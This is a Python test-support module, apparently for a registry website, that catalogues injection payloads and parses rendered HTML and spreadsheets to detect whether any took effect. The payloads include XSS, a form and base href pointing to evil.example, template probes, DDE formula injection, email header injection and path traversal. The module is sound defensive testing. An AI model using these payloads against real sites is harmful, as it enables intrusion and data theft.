"""Hostile texts that may harm their readers, and checks whether one has worked in a page, a table or a paper.

A page is read by a parser that follows HTML's own rules, as browsers do, and what it holds is judged by what it would
do: which elements, attributes and addresses are there, not which signs.
"""

import csv
import io
import json
from collections.abc import Iterator
from typing import Any
from urllib.parse import urlsplit

import openpyxl
import tinyhtml5

from registry.pages.public.assets import script_within

MARK = "zq"
"""Names no element, attribute or file of ours."""

ELEMENTS = (
    f"<{MARK}>",
    f"<script>{MARK}(1)</script>",
    f"<img src={MARK} onerror={MARK}(1)>",
    f"<svg/onload={MARK}(1)>",
    f'<a href="javascript:{MARK}(1)">go</a>',
    '<form action="https://evil.example"><input name=form>',
    '<iframe srcdoc="x"></iframe>',
    '<base href="https://evil.example/">',
    f'<meta http-equiv=refresh content="0;url={MARK}">',
    '<link rel=attachment href="http://127.0.0.1/"><img src="file:///etc/passwd">',
)
"""Each adds something to a page that takes it for HTML."""

BREAK_OUTS = (
    "", "'", '"', "'>", '">', "</title>", "</textarea>", "</style>", "</script>", "-->", "]]>", "</svg>", "</option></select>",
)  # fmt: skip
"""What ends the place that a text stands in, so that the rest is read as HTML."""

ATTRIBUTE = f'" on{MARK}="{MARK}(1)" style="position:fixed" x="'
"""Adds attributes to the element in whose attribute it stands, without a single tag."""

COMPUTED = "{{191*193}}${191*193}#{191*193}<%=191*193%>{%if 1%}{name}%(name)s%s%n"
PRODUCT = str(191 * 193)
"""What a text shows that a template took for its own."""

MARKUP = (
    ATTRIBUTE
    + "".join(f"{end}{element}" for end, element in zip(BREAK_OUTS, ELEMENTS + ELEMENTS, strict=False))
    + COMPUTED
)
TAG = f'"><{MARK} on{MARK}={MARK}>'
"""The shortest that does both, for fields that take little."""

OVERRIDES = "\u202e\u202d\u2066\u2067\u200f"
"""Turn round what is read after them, unless it stands apart."""
LOUD = f"{MARKUP}{OVERRIDES}gpj.exe\u200b\ufeff\r\nBcc: {MARK}@evil.example"

_BEGINNINGS = (
    "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\uff1d", "\uff0b", "\uff0d", "\uff20", "=cmd|' /C calc'!A0+",
)  # fmt: skip
FORMULAS = tuple(f"{begin}{MARK}()" for begin in _BEGINNINGS)
HEADERS = (f"a\r\nBcc: {MARK}@evil.example", f"a\nBcc: {MARK}@evil.example", f"a\r\n\r\n{MARK}", "a\rBcc: x", "a\x00b")
FILE_NAMES = (
    f"../../etc/{MARK}.txt",
    f"..\\..\\{MARK}.txt",
    f"/etc/{MARK}",
    f'{TAG}\u202e\r\nSet-Cookie: {MARK}=1; ".txt',
)

_ADDRESSES = frozenset(
    {"href", "src", "action", "formaction", "data", "poster", "srcset", "cite", "background", "ping"}
)
_SCHEMES = frozenset({"", "https", "http", "mailto", "tel", "data"})
_ABROAD = frozenset({"evil.example", "127.0.0.1"})
_APART = frozenset({"bdi", "bdo", "textarea", "option", "title", "desc", "script"})
"""Elements whose text turns nothing round outside them."""


OURS = frozenset({"", script_within("offline.js", "suggest.js").strip()})
"""What stands within scripts of ours."""


def harm_in(html: str) -> list[str]:
    """What a text would do in a page.

    Empty is well; ours has scripts by address, data, and the scripts of the lookup page that its policy names by their hash,
    and no style and no handler inside.
    """
    return list(_harm(tinyhtml5.parse(html, namespace_html_elements=False), is_apart=False))


def _harm(element: Any, *, is_apart: bool) -> Iterator[str]:
    tag = str(element.tag).rpartition("}")[2]
    if not isinstance(element.tag, str):
        yield from _turned(element.tail, is_apart=is_apart)
        return
    for name, value in element.attrib.items():
        bare = name.rpartition("}")[2].lower()
        if bare.startswith("on") or bare == "style" or MARK in bare or bare == "srcdoc":
            yield f"<{tag} {bare}=…>"
        elif bare in _ADDRESSES and not _is_good(value):
            yield f"<{tag} {bare}={value[:40]!r}>"
        elif PRODUCT in value:
            yield f"<{tag} {bare}> was computed"
    if MARK in tag or tag in ("iframe", "object", "embed", "base") or (tag == "script" and not _is_ours(element)):
        yield f"<{tag}>"
    if tag == "meta" and MARK in element.get("content", "") and element.get("http-equiv"):
        yield "<meta http-equiv>"
    is_apart_here = is_apart or tag in _APART or element.get("dir") == "auto"
    yield from _turned(element.text, is_apart=is_apart_here)
    if PRODUCT in (element.text or ""):
        yield f"the text of <{tag}> was computed"
    for child in element:
        yield from _harm(child, is_apart=is_apart_here)
        yield from _turned(child.tail, is_apart=is_apart_here)


def _is_ours(script: Any) -> bool:
    text = (script.text or "").strip()
    if script.get("type") == "application/ld+json":
        return isinstance(json.loads(text), dict)
    return text in OURS


def _turned(text: str | None, *, is_apart: bool) -> Iterator[str]:
    if text and not is_apart and not set(OVERRIDES).isdisjoint(text):
        yield f"a text turns round what is beside it: {text[:60]!r}"


def _is_good(address: str) -> bool:
    there = urlsplit(address.strip())
    return (
        there.scheme.lower() in _SCHEMES
        and there.hostname not in _ABROAD
        and not address.strip().lower().startswith("data:text")
    )


def cells_of(body: bytes) -> list[str]:
    """The texts of a CSV or of a workbook; what a workbook holds but texts, numbers and days is named by its kind."""
    if not body.startswith(b"PK"):
        return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")) for cell in row]
    book = openpyxl.load_workbook(io.BytesIO(body))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    return [
        str(cell.value) if cell.data_type in "snd" else f"= kind {cell.data_type}"
        for cell in cells
        if cell.data_type not in "nd"
    ]


def runs(cell: str) -> bool:
    """Whether a spreadsheet, of Europe or of East Asia, takes a cell for a formula."""
    return cell.lstrip(" ")[:1] in set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20") if cell.strip(" ") else False
